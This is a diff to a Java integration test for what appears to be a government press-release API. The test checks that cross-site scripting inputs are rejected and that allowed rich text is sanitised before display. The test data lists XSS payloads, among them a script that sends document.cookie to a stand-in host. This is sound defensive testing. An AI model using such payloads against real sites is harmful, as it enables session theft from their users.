@@ -191,7 +191,52 @@ class ReleaseThreadApiIT extends WartaIT {
     assertEquals(
         400, api.put("/api/releases/" + id, staff, change, "*").status(), "only one ETag will do");
 
-    assertEquals("Judul asli", api.get("/api/releases/" + id, staff).json().getString("title"));
+    for (String[] hostile :
+        new String[][] {
+          {"body", "<p>Isi</p><script>fetch('https://contoh.example/?'+document.cookie)</script>"},
+          {"body", "<p><a href=\"javascript:alert(1)\">tautan</a></p>"},
+          {"body", "<p><img src=\"https://contoh.example/lacak.png\"></p>"},
+          {"body", "<p onmouseover=\"alert(1)\">Isi</p>"},
+          {"title", "<b>Judul</b> tebal"},
+          {"lead", "Teras <img src=x onerror=alert(1)>"}
+        }) {
+      JsonObject attempt =
+          Json.createObjectBuilder()
+              .add("type", "NEWS")
+              .add("title", "Judul baru")
+              .add("body", "<p>Isi baru</p>")
+              .add(hostile[0], hostile[1])
+              .build();
+      Response refused = api.put("/api/releases/" + id, staff, attempt.toString(), etag(draft));
+      assertEquals(400, refused.status(), hostile[1] + ": " + refused.body());
+      assertEquals(hostile[0], refused.json().getString("field"), hostile[1]);
+    }
+
+    JsonObject stored = api.get("/api/releases/" + id, staff).json();
+    assertEquals("Judul asli", stored.getString("title"));
+    assertEquals("<p>Isi asli.</p>", stored.getString("body"));
+    assertEquals(1, stored.getInt("revision"), "nothing was saved");
+  }
+
+  @Test
+  void richTextIsKeptSanitisedAndThePortalRendersIt() {
+    String marker = "kaya" + UUID.randomUUID().toString().substring(0, 8);
+    JsonObject draft =
+        createDraft(
+            "staf.humas",
+            "BIASA",
+            "Format " + marker,
+            "<h2>Jadwal</h2><p class=\"ql-align-center MsoNormal\" style=\"color:red\">"
+                + "<strong>Senin</strong> di <a href=\"https://jogjaprov.go.id\">Kepatihan</a></p>");
+    assertEquals(
+        "<h2>Jadwal</h2><p class=\"ql-align-center\"><strong>Senin</strong> di <a"
+            + " href=\"https://jogjaprov.go.id\" rel=\"noopener noreferrer nofollow\">Kepatihan</a></p>",
+        draft.getString("body"),
+        "formatting kept; the editor's unknown classes and inline colours dropped");
+    publish(draft.getString("id"), "staf.humas", "kabid.humas");
+    var portal = PageSession.anonymous().get("/");
+    assertTrue(portal.body().contains("<strong>Senin</strong>"), "the portal renders the HTML");
+    assertFalse(portal.body().contains("&lt;strong&gt;Senin"), "not as escaped text");
   }
 
   @Test
